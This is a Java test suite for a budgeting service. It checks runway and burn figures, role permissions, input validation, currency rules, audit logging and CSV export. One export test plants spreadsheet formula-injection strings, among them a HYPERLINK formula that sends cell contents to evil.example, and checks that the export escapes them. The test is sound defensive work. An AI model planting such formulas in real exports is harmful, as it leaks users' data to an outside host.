package dev.runway.budget;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.runway.base.AccessDeniedException;
import dev.runway.base.BadInputException;
import dev.runway.project.ProjectService;
import dev.runway.tenancy.Actor;
import dev.runway.tenancy.AuditEvent;
import dev.runway.tenancy.AuditLog;
import dev.runway.tenancy.Role;
import dev.runway.tenancy.TenantContext;
import dev.runway.testing.TenancyFixture;
import dev.runway.testing.TestClock;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.math.BigDecimal;
import java.time.Duration;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.Currency;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

@QuarkusTest
class BudgetServiceTest {

    @Inject
    BudgetService budget;

    @Inject
    FundingService funds;

    @Inject
    SpendService spending;

    @Inject
    ComputeBudgetService compute;

    @Inject
    AuditLog audit;

    @Inject
    TenancyFixture fixture;

    @Inject
    TestClock clock;

    @Inject
    ProjectService projects;

    @AfterEach
    void resetClock() {
        clock.reset();
    }

    static FundingService.FundingForm funding(String amount, LocalDate on) {
        return new FundingService.FundingForm(FundingKind.ANGEL, new BigDecimal(amount), "USD", on, "seed");
    }

    static SpendService.ActualForm spend(SpendCategory category, String amount, LocalDate on) {
        return new SpendService.ActualForm(on, category, new BigDecimal(amount), "", null);
    }

    @Test
    void cash_burn_and_runway_follow_the_clock_month_by_month() {
        Actor owner = fixture.company().owner();
        LocalDate today = budget.today();
        YearMonth month = YearMonth.from(today);
        as(owner, () -> {
            funds.addFunding(funding("10000", month.minusMonths(4).atDay(1)));
            spending.addActual(spend(SpendCategory.PEOPLE, "900", month.minusMonths(3).atDay(1)));
            spending.addActual(spend(SpendCategory.COMPUTE, "1200.00", month.minusMonths(2).atDay(28)));
            spending.addActual(spend(SpendCategory.MARKETING, "1500.0", month.minusMonths(1).atEndOfMonth()));
        });

        BudgetService.Summary now = as(owner, budget::summary);
        assertThat(now.nothingRecorded()).isFalse();
        assertThat(now.cashOnHand()).isEqualTo(new BigDecimal("6400.00"));
        assertThat(now.burn().amount()).isEqualTo(new BigDecimal("1200.00"));
        assertThat(now.runwayMonths()).contains(new BigDecimal("5.3"));

        clock.advance(Duration.ofDays(today.lengthOfMonth() - today.getDayOfMonth() + 1L));
        BudgetService.Summary nextMonth = as(owner, budget::summary);
        assertThat(nextMonth.asOf()).isEqualTo(month.plusMonths(1).atDay(1));
        assertThat(nextMonth.cashOnHand()).isEqualTo(new BigDecimal("6400.00"));
        assertThat(nextMonth.burn().amount()).isEqualTo(new BigDecimal("900.00"));
        assertThat(nextMonth.runwayMonths()).contains(new BigDecimal("7.1"));
        assertThat(as(owner, budget::runwaySeries)).hasSize(6).last()
                .satisfies(p -> assertThat(p.runwayMonths()).isEqualByComparingTo("7.1"));
    }

    @Test
    void a_new_company_has_no_burn_yet_and_nothing_recorded() {
        Actor viewer = fixture.member(fixture.company(), Role.VIEWER);
        BudgetService.Summary summary = as(viewer, budget::summary);
        assertThat(summary.nothingRecorded()).isTrue();
        assertThat(summary.cashOnHand()).isEqualTo(new BigDecimal("0.00"));
        assertThat(summary.runwayMonths()).isEmpty();
        assertThat(as(viewer, budget::runwaySeries)).isEmpty();
    }

    @Test
    void plan_against_actual_compares_one_month() {
        Actor billing = fixture.member(fixture.company(), Role.BILLING);
        YearMonth month = YearMonth.from(budget.today());
        as(billing, () -> {
            spending.savePlan(month, Map.of(SpendCategory.COMPUTE, new BigDecimal("500"),
                    SpendCategory.PEOPLE, new BigDecimal("2000.00")));
            spending.addActual(spend(SpendCategory.COMPUTE, "620.00", month.atDay(1)));
            spending.savePlan(month, Map.of(SpendCategory.PEOPLE, BigDecimal.ZERO));
        });
        assertThat(as(billing, () -> spending.plan(month))).containsOnlyKeys(SpendCategory.COMPUTE);
        assertThat(as(billing, () -> spending.planVsActual(month))).first().satisfies(row -> {
            assertThat(row.planned()).isEqualTo(new BigDecimal("500.00"));
            assertThat(row.actual()).isEqualTo(new BigDecimal("620.00"));
            assertThat(row.left()).isEqualTo(new BigDecimal("-120.00"));
        });
    }

    @Test
    void billing_entries_are_idempotent_rounded_half_up_and_read_only() {
        Actor owner = fixture.company().owner();
        ActualSpend posted = as(owner, () -> budget.recordComputeSpend(null, new BigDecimal("0.125"), null, "run-1"));
        ActualSpend again = as(owner, () -> budget.recordComputeSpend(null, new BigDecimal("0.125"), null, "run-1"));

        assertThat(posted.getAmount()).isEqualByComparingTo("0.13");
        assertThat(posted.getSource()).isEqualTo(SpendSource.BILLING);
        assertThat(again.getId()).isEqualTo(posted.getId());
        assertThat(as(owner, () -> spending.actuals(null))).hasSize(1);
        assertThatThrownBy(() -> as(owner, () -> spending.updateActual(posted.getId(),
                spend(SpendCategory.COMPUTE, "0.01", budget.today()))))
                .isInstanceOf(BadInputException.class).hasMessageContaining("read-only");
        assertThatThrownBy(() -> as(owner, () -> spending.deleteActual(posted.getId())))
                .isInstanceOf(BadInputException.class).hasMessageContaining("read-only");
        assertThat(as(owner, () -> spending.actuals(null))).singleElement()
                .satisfies(a -> assertThat(a.getAmount()).isEqualByComparingTo("0.13"));
    }

    @Test
    void manual_entries_can_be_changed_and_deleted_with_an_audit_trail() {
        Actor owner = fixture.company().owner();
        ActualSpend entry = as(owner, () -> spending.addActual(spend(SpendCategory.OTHER, "10", budget.today())));
        as(owner, () -> spending.updateActual(entry.getId(), spend(SpendCategory.PEOPLE, "12.50", budget.today())));
        assertThat(as(owner, () -> spending.actuals(null))).singleElement()
                .satisfies(a -> assertThat(a.getAmount()).isEqualTo(new BigDecimal("12.50")));
        as(owner, () -> spending.deleteActual(entry.getId()));
        assertThat(as(owner, () -> spending.actuals(null))).isEmpty();
        assertThat(as(owner, () -> audit.list("", ""))).extracting(AuditEvent::getKind)
                .contains("budget.spend_added", "budget.spend_updated", "budget.spend_deleted");
    }

    @Test
    void viewers_and_engineers_may_read_but_not_write() {
        TenancyFixture.Company company = fixture.company();
        for (Role role : new Role[] {Role.VIEWER, Role.ENGINEER, Role.ANALYST}) {
            Actor member = fixture.member(company, role);
            refused(member, () -> funds.addFunding(funding("100", budget.today())));
            refused(member, () -> spending.addActual(spend(SpendCategory.OTHER, "1", budget.today())));
            refused(member, () -> spending.savePlan(YearMonth.from(budget.today()),
                    Map.of(SpendCategory.OTHER, BigDecimal.ONE)));
            refused(member, () -> budget.changeCurrency("EUR"));
            refused(member, () -> compute.saveComputeBudget(
                    new ComputeBudgetService.BudgetForm(null, BigDecimal.TEN, "")));
            assertThat(as(member, budget::summary)).isNotNull();
            assertThat(as(member, compute::recentAlerts)).isEmpty();
        }
        for (Role role : new Role[] {Role.BILLING, Role.ADMIN}) {
            Actor member = fixture.member(company, role);
            assertThat(as(member, () -> funds.addFunding(funding("100", budget.today()))).getId()).isNotNull();
        }
    }

    @Test
    void bad_amounts_dates_and_categories_are_refused_at_their_field() {
        Actor owner = fixture.company().owner();
        LocalDate today = budget.today();
        badInput(owner, "amount", "above zero", () -> funds.addFunding(funding("-5", today)));
        badInput(owner, "amount", "above zero", () -> funds.addFunding(funding("0", today)));
        badInput(owner, "amount", "at most 2 decimals", () -> funds.addFunding(funding("10.001", today)));
        badInput(owner, "amount", "Enter an amount", () -> funds.addFunding(
                new FundingService.FundingForm(FundingKind.GRANT, null, "USD", today, "")));
        badInput(owner, "receivedOn", "future", () -> funds.addFunding(funding("5", today.plusDays(1))));
        badInput(owner, "kind", "kind", () -> funds.addFunding(
                new FundingService.FundingForm(null, BigDecimal.ONE, "USD", today, "")));
        badInput(owner, "category", "category", () -> spending.addActual(
                new SpendService.ActualForm(today, null, BigDecimal.ONE, "", null)));
        badInput(owner, "note", "under 500 characters", () -> funds.addFunding(
                new FundingService.FundingForm(FundingKind.GRANT, BigDecimal.ONE, "USD", today, "n".repeat(501))));
        badInput(owner, "note", "under 500 characters", () -> spending.addActual(
                new SpendService.ActualForm(today, SpendCategory.OTHER, BigDecimal.ONE, "n".repeat(501), null)));
        badInput(owner, "amount", "above zero", () -> spending.addActual(spend(SpendCategory.OTHER, "-1", today)));
        badInput(owner, "PEOPLE", "zero or a positive", () -> spending.savePlan(YearMonth.from(today),
                Map.of(SpendCategory.PEOPLE, new BigDecimal("-1"))));
        Map<SpendCategory, BigDecimal> unknown = new HashMap<>();
        unknown.put(null, BigDecimal.ONE);
        badInput(owner, "category", "Choose a category", () -> spending.savePlan(YearMonth.from(today), unknown));
        badInput(owner, "amount", "above zero",
                () -> budget.recordComputeSpend(null, BigDecimal.ZERO, null, "k"));
        badInput(owner, "idempotencyKey", "idempotency key",
                () -> budget.recordComputeSpend(null, BigDecimal.ONE, null, " "));
        assertThat(as(owner, budget::summary).nothingRecorded()).isTrue();
    }

    @Test
    void one_currency_per_company_changeable_only_while_nothing_is_recorded() {
        Actor owner = fixture.company().owner();
        LocalDate today = budget.today();
        assertThat(as(owner, budget::currency)).isEqualTo(Currency.getInstance("USD"));
        badInput(owner, "currency", "not a currency code", () -> budget.changeCurrency("XYZ"));
        badInput(owner, "currency", "not a currency code", () -> funds.addFunding(
                new FundingService.FundingForm(FundingKind.VENTURE, BigDecimal.TEN, "ZZZ", today, "")));

        assertThat(as(owner, () -> budget.changeCurrency("jpy"))).isEqualTo(Currency.getInstance("JPY"));
        badInput(owner, "amount", "no decimals", () -> funds.addFunding(
                new FundingService.FundingForm(FundingKind.VENTURE, new BigDecimal("10.5"), "JPY", today, "")));
        badInput(owner, "currency", "books in JPY", () -> funds.addFunding(
                new FundingService.FundingForm(FundingKind.VENTURE, BigDecimal.TEN, "EUR", today, "")));
        as(owner, () -> funds.addFunding(
                new FundingService.FundingForm(FundingKind.VENTURE, new BigDecimal("5000000"), "JPY", today, "")));

        badInput(owner, "currency", "only while nothing is recorded", () -> budget.changeCurrency("USD"));
        assertThat(as(owner, budget::summary).cashOnHand()).isEqualTo(new BigDecimal("5000000"));
    }

    @Test
    void funding_can_be_corrected_with_an_audit_trail() {
        TenancyFixture.Company company = fixture.company();
        Actor owner = company.owner();
        FundingSource seed = as(owner, () -> funds.addFunding(new FundingService.FundingForm(FundingKind.ANGEL,
                new BigDecimal("50000"), "USD", budget.today(), "seed")));
        as(owner, () -> funds.updateFunding(seed.getId(), new FundingService.FundingForm(FundingKind.VENTURE,
                new BigDecimal("52500.50"), "USD", budget.today().minusDays(3), "seed, corrected")));
        assertThat(as(owner, () -> funds.funding())).singleElement().satisfies(f -> {
            assertThat(f.getKind()).isEqualTo(FundingKind.VENTURE);
            assertThat(f.getAmount()).isEqualByComparingTo("52500.50");
            assertThat(f.getNote()).isEqualTo("seed, corrected");
        });
        assertThat(as(owner, () -> budget.summary()).cashOnHand()).isEqualByComparingTo("52500.50");
        assertThat(as(owner, () -> audit.list("", ""))).extracting(AuditEvent::getKind)
                .contains("budget.funding_added", "budget.funding_updated");
        badInput(owner, "amount", "above zero", () -> funds.updateFunding(seed.getId(),
                new FundingService.FundingForm(FundingKind.VENTURE, BigDecimal.ZERO, "USD", budget.today(), "")));
        Actor viewer = fixture.member(company, Role.VIEWER);
        refused(viewer, () -> funds.updateFunding(seed.getId(), new FundingService.FundingForm(FundingKind.GRANT,
                BigDecimal.ONE, "USD", budget.today(), "")));
    }

    @Test
    void a_formula_planted_in_a_note_or_a_project_name_is_exported_as_text() {
        TenancyFixture.Company company = fixture.company();
        Actor owner = company.owner();
        long project = as(owner, () -> projects.create(new ProjectService.ProjectForm("@SUM(A1:A9)", "", "", false))
                .getId());
        as(owner, () -> funds.addFunding(new FundingService.FundingForm(FundingKind.GRANT, new BigDecimal("1000"),
                "USD", budget.today(), "=HYPERLINK(\"https://evil.example/?\"&A1,\"details\")")));
        as(owner, () -> spending.addActual(new SpendService.ActualForm(budget.today(), SpendCategory.PEOPLE,
                new BigDecimal("250.25"), "+1-2", project)));
        String csv = as(owner, () -> budget.exportCsv());
        assertThat(csv.lines().skip(1).toList()).containsExactly(
                "funding," + budget.today() + ",Grant,1000.00,USD,,,"
                        + "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"details\"\")\"",
                "spend," + budget.today() + ",People,250.25,USD,'@SUM(A1:A9),entered,'+1-2");
    }

    @Test
    void the_budget_exports_funding_plan_and_spend_as_csv_for_spreadsheets() {
        TenancyFixture.Company company = fixture.company();
        Actor owner = company.owner();
        as(owner, () -> funds.addFunding(new FundingService.FundingForm(FundingKind.GRANT, new BigDecimal("1000"),
                "USD", budget.today(), "EU grant · “Horizon”, phase 1")));
        as(owner, () -> spending.savePlan(YearMonth.from(budget.today()), Map.of(SpendCategory.PEOPLE,
                new BigDecimal("400"))));
        as(owner, () -> spending.addActual(new SpendService.ActualForm(budget.today(), SpendCategory.PEOPLE,
                new BigDecimal("250.25"), "contractor", null)));
        String csv = as(owner, () -> budget.exportCsv());
        assertThat(csv).startsWith("\uFEFFrecord,date,kind_or_category,amount,currency,project,source,note");
        assertThat(csv.lines().skip(1).toList()).containsExactly(
                "funding," + budget.today() + ",Grant,1000.00,USD,,,\"EU grant · “Horizon”, phase 1\"",
                "plan," + YearMonth.from(budget.today()) + ",People,400.00,USD,,,",
                "spend," + budget.today() + ",People,250.25,USD,,entered,contractor");
        Actor viewer = fixture.member(company, Role.VIEWER);
        assertThat(as(viewer, () -> budget.exportCsv())).contains("contractor");
        Actor stranger = fixture.company().owner();
        assertThat(as(stranger, () -> budget.exportCsv()).lines()).as("another company's export").hasSize(1);
    }

    @Test
    void plan_against_actual_has_a_totals_row() {
        List<RunwayMath.CategoryComparison> rows = RunwayMath.planVsActual(
                Map.of(SpendCategory.PEOPLE, new BigDecimal("400"), SpendCategory.COMPUTE, new BigDecimal("100")),
                Map.of(SpendCategory.COMPUTE, new BigDecimal("130.50")), Currency.getInstance("USD"));
        RunwayMath.CategoryComparison total = RunwayMath.total(rows);
        assertThat(total.category()).isNull();
        assertThat(total.planned()).isEqualByComparingTo("500");
        assertThat(total.actual()).isEqualByComparingTo("130.50");
        assertThat(total.left()).isEqualByComparingTo("369.50");
    }

    private static void refused(Actor actor, Runnable action) {
        assertThatThrownBy(() -> TenantContext.runAs(actor, action)).isInstanceOf(AccessDeniedException.class);
    }

    private static void badInput(Actor actor, String field, String message, Runnable action) {
        assertThatThrownBy(() -> TenantContext.runAs(actor, action))
                .isInstanceOfSatisfying(BadInputException.class, e -> {
                    assertThat(e.field()).isEqualTo(field);
                    assertThat(e.getMessage()).contains(message);
                });
    }

    private static <T> T as(Actor actor, Supplier<T> work) {
        return TenantContext.runAs(actor, work);
    }

    private static void as(Actor actor, Runnable work) {
        TenantContext.runAs(actor, work);
    }
}
